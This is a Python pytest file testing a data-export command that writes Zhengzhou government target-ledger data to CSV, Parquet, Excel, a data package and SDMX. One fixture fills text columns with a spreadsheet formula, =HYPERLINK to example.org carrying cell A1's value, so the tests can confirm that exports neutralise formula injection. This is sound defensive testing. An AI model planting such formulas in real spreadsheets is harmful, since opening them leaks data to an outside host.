"""`taizhang export` on the shipped data: every form whole, readable by others, and safe to open."""

import csv
import json
import os
import shutil
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import duckdb
import openpyxl
import polars as pl
import pytest

from pipeline.cli.export import FORMS as NAMED
from pipeline.export import FORMS, ExportError, export
from pipeline.export.sdmx import ATTRIBUTES, DIMENSIONS
from pipeline.publish import Version
from tests.integration.command import Place

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"看原文")'


@pytest.fixture(scope="module")
def exported(shipped: tuple[Place, str], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An export of the shipped data in all forms."""
    folder = tmp_path_factory.mktemp("export") / "all"
    done = shipped[0].call("export", str(folder))
    assert done.returncode == 0, done.stderr
    assert all(form in done.stdout for form in FORMS)
    return folder


def counts(place: Place) -> dict[str, int]:
    """Rows of each published table."""
    with duckdb.connect(str(place.version), read_only=True) as connection:
        names = connection.execute("select table_name from duckdb_tables() where schema_name = 'marts'").fetchall()
        asked = {name: connection.execute(f"select count(*) from marts.{name}").fetchone() for (name,) in names}
    return {name: row[0] for name, row in asked.items() if row}


def test_csv_and_parquet_have_every_row_of_every_table(exported: Path, shipped: tuple[Place, str]) -> None:
    wanted = counts(shipped[0])
    assert {path.stem: len(pl.read_parquet(path)) for path in (exported / "parquet").iterdir()} == wanted
    read = {}
    for path in (exported / "csv").iterdir():
        with path.open(encoding="utf-8", newline="") as file:
            read[path.stem] = len(list(csv.DictReader(file)))
    assert read == wanted


def test_the_data_package_is_valid_and_describes_every_column(exported: Path, shipped: tuple[Place, str]) -> None:
    package = json.loads((exported / "datapackage.json").read_text("utf-8"))
    assert {r["name"]: r["rows"] for r in package["resources"]} == counts(shipped[0])
    fields = [field for resource in package["resources"] for field in resource["schema"]["fields"]]
    assert not [field["name"] for field in fields if not field["description"] or field["type"] == "any"]
    assert "Licence notes" in package["description"]
    command = [sys.executable, "-m", "frictionless", "validate", "--json", "datapackage.json"]
    done = subprocess.run(command, cwd=exported, capture_output=True, text=True, check=False)
    report = json.loads(done.stdout)
    assert (done.returncode, report["valid"]) == (0, True), done.stdout
    assert report["stats"]["tasks"] == len(package["resources"])


def test_the_ledger_has_the_shape_that_offices_use(exported: Path, shipped: tuple[Place, str]) -> None:
    [file] = (exported / "ledger").iterdir()
    assert file.name == "410100-郑州市.xlsx"
    book = openpyxl.load_workbook(file)
    assert book.sheetnames == ["汇总", "2026", "其他来源"]
    sheet = book["2026"]
    assert sheet["A1"].value == "郑州市2026年政府工作报告 目标台账"
    merged = {str(cells) for cells in sheet.merged_cells.ranges}
    assert {"A1:M1", "A3:A4", "C3:F3", "G3:H3", "I3:I4", "K3:L3"} <= merged
    heads = [sheet.cell(3, column).value or "" for column in range(1, 14)]
    assert [head for head in heads if head] == ["序号", "指标", "目标", "完成", "进度", "状态", "依据", "备注"]
    assert (sheet.freeze_panes, sheet.print_title_rows) == ("C5", "$1:$4")
    assert sheet.print_area == f"'2026'!$A$1:$M${sheet.max_row}"
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (
        "landscape",
        1,
        0,
    )
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=5) if isinstance(row[0].value, int)]
    product = next(row for row in rows if row[1] == "地区生产总值（增速）")
    assert product[2:6] == ["5% 以上", 5, "%", "2026"]
    assert (product[9], "地区生产总值增长5%以上" in str(product[10])) == ("○ 未到期", True)
    others = [row for row in book["其他来源"].iter_rows(min_row=5, values_only=True) if isinstance(row[0], int)]
    assert len(rows) + len(others) == counts(shipped[0])["target_vs_actual"]
    assert [row[0] for row in rows] == list(range(1, len(rows) + 1))
    kept = {row[0]: row[1:] for row in book["汇总"].iter_rows(min_row=3, values_only=True)}
    assert kept[2023][-1] == pytest.approx(kept_share(shipped[0], 2023))


def kept_share(place: Place, year: int) -> float:
    """What the warehouse says of a year: met or exceeded out of assessed, strictly."""
    [row] = place.ask(
        "select count(*) filter (where verdict_strict in ('met', 'exceeded')) as kept, count(*) filter (where "
        "verdict_strict in ('met', 'exceeded', 'near', 'missed')) as assessed from target_vs_actual "
        f"where report_year = {year}"
    )
    assert isinstance(row["kept"], int)
    assert isinstance(row["assessed"], int)
    return row["kept"] / row["assessed"]


def test_sdmx_has_one_observation_a_key_and_a_code_for_every_value(exported: Path) -> None:
    from pysdmx.io import read_sdmx

    message = read_sdmx(exported / "sdmx" / "structure.json", validate=True)
    lists = {known.id: {code.id for code in known.items} for known in message.get_codelists()}
    [structure] = message.get_data_structure_definitions()
    components = [component.id for component in structure.components]
    with (exported / "sdmx" / "targets.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == ["STRUCTURE", "STRUCTURE_ID", "ACTION", *components]
    keys = Counter(tuple(row[name] for name in DIMENSIONS) for row in rows)
    assert max(keys.values()) == 1
    for name, (_, listed) in {**DIMENSIONS, **ATTRIBUTES}.items():
        if listed:
            assert {row[name] for row in rows if row[name]} <= lists[listed], name
    product = [row for row in rows if row["INDICATOR"] == "gdp" and row["TIME_PERIOD"] == "2025"]
    assert {(r["FIGURE"], float(r["OBS_VALUE"])) for r in product if r["MEASURE"] == "growth"} == {
        ("TARGET", 6.0),
        ("ACTUAL", 5.4),
    }
    assert any("/P" in row["TIME_PERIOD"] for row in rows)


def test_sdmx_loses_no_figure(exported: Path, shipped: tuple[Place, str]) -> None:
    [wanted] = shipped[0].ask(
        "select count(*) as targets, count(target_value_max) as upper, count(actual_value) as actuals "
        "from target_vs_actual"
    )
    with (exported / "sdmx" / "targets.csv").open(encoding="utf-8", newline="") as file:
        figures = Counter(row["FIGURE"] for row in csv.DictReader(file))
    assert [figures[name] for name in ("TARGET", "TARGET_MAX", "ACTUAL")] == list(wanted.values())


@pytest.fixture
def hostile(shipped: tuple[Place, str], tmp_path: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    """The shipped warehouse, with a formula in every text of a source."""
    file = Path(shutil.copy(shipped[0].version, tmp_path / "hostile.duckdb"))
    file.chmod(0o600)
    words = ("quote", "sentence", "indicator", "indicator_name", "title", "file_name", "region_name")
    with duckdb.connect(str(file)) as connection:
        for table, column in connection.execute(
            "select table_name, column_name from duckdb_columns() where schema_name = 'marts' and data_type = 'VARCHAR'"
        ).fetchall():
            if column.endswith(words):
                connection.execute(f"update marts.{table} set {column} = ? where {column} is not null", [FORMULA])
        yield connection


def test_no_text_of_a_source_becomes_a_formula(hostile: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    folder = tmp_path / "export"
    export(hostile, Version(tmp_path, "1", "", "2026-01-01", {}, 0), folder, list(FORMS))
    found = 0
    for path in (folder / "csv").iterdir():
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))], path
        found += cells.count("'" + FORMULA)
    assert found > 1000
    [workbook] = (folder / "ledger").iterdir()
    texts = 0
    for sheet in openpyxl.load_workbook(workbook):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title} {cell.coordinate}"
                if cell.value == FORMULA:
                    assert cell.quotePrefix
                    texts += 1
    assert texts > 100
    assert FORMULA in pl.read_parquet(folder / "parquet" / "observations.parquet")["quote"].to_list()
    assert FORMULA not in (folder / "sdmx" / "targets.csv").read_text("utf-8")


def test_a_folder_with_anything_else_in_it_is_left_alone(shipped: tuple[Place, str], tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("mine")
    done = shipped[0].call("export", str(tmp_path))
    assert done.returncode == 1
    assert "is no earlier export" in done.stderr
    assert [path.name for path in tmp_path.iterdir()] == ["notes.txt"]


def test_an_earlier_export_is_replaced_whole_or_stays(shipped: tuple[Place, str], tmp_path: Path) -> None:
    folder = tmp_path / "out"
    assert shipped[0].call("export", str(folder), "--format", "parquet").returncode == 0
    assert {path.name for path in folder.iterdir()} == {"export.json", "parquet"}
    with duckdb.connect(str(shipped[0].version), read_only=True) as connection:
        connection.execute("set search_path = 'marts'")

        def fail(text: str) -> None:
            raise OSError(28, os.strerror(28))

        with pytest.raises(ExportError, match="cannot be written: No space left"):
            export(connection, Version(tmp_path, "1", "", "", {}, 0), folder, ["csv"], fail)
        assert {path.name for path in folder.iterdir()} == {"export.json", "parquet"}
        export(connection, Version(tmp_path, "1", "", "", {}, 0), folder, ["sdmx"])
    assert {path.name for path in folder.iterdir()} == {"export.json", "sdmx"}
    assert [path.name for path in tmp_path.iterdir()] == ["out"]


def test_nothing_published_is_said_with_the_next_step(tmp_path: Path) -> None:
    from tests.integration.command import place_at

    (tmp_path / "data" / "raw").mkdir(parents=True)
    done = place_at(tmp_path).call("export")
    assert (done.returncode, "say `taizhang run` first" in done.stderr) == (1, True)


def test_the_command_names_every_form() -> None:
    assert tuple(FORMS) == NAMED
